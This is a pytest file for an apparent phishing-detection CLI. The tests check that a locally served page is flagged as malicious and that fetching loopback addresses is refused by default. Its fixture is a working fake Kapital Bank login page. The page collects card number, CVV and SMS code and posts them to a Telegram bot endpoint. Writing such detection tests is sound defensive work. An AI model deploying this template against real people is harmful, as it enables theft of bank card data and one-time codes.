"""`qalxan check url --fetch` runs the real page analysis on a page served on 127.0.0.1."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

FAKE_LOGIN = (
    "<html><head><title>Kapital Bank - Giriş</title></head><body><h1>Kapital Bank</h1>"
    '<form action="https://api.telegram.org/bot123/sendMessage">'
    '<input name="card" placeholder="Kart nömrəsi"><input name="cvv" placeholder="CVV">'
    '<input name="otp" placeholder="SMS kod"><button>Daxil ol</button></form></body></html>'
).encode()


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(FAKE_LOGIN)))
        self.end_headers()
        self.wfile.write(FAKE_LOGIN)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def page_url() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/login"
    finally:
        server.shutdown()
        server.server_close()


def _check(url: str, tmp_path: Path, *, loopback: bool) -> dict[str, object]:
    env = dict(os.environ)
    env["QALXAN_FETCH_ALLOW_LOOPBACK"] = "true" if loopback else "false"
    env["QALXAN_DATABASE_URL"] = f"sqlite:///{tmp_path / 'q.db'}"
    env["QALXAN_VAR_DIR"] = str(tmp_path)
    qalxan = Path(sys.executable).with_name("qalxan")
    out = subprocess.run(
        [str(qalxan), "check", "url", url, "--fetch", "--json"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    result: dict[str, object] = json.loads(out.stdout)
    return result


def test_fetch_flags_the_fake_bank_page(page_url: str, tmp_path: Path) -> None:
    out = _check(page_url, tmp_path, loopback=True)
    page = out["page"]
    assert isinstance(page, dict)
    assert page["kind"] == "page"
    assert page["verdict"] == "malicious"
    assert page["brand"] == "kapitalbank"


def test_fetch_refuses_loopback_by_default(page_url: str, tmp_path: Path) -> None:
    out = _check(page_url, tmp_path, loopback=False)
    page = out["page"]
    assert isinstance(page, dict)
    assert "error" in page and page.get("verdict") is None, page
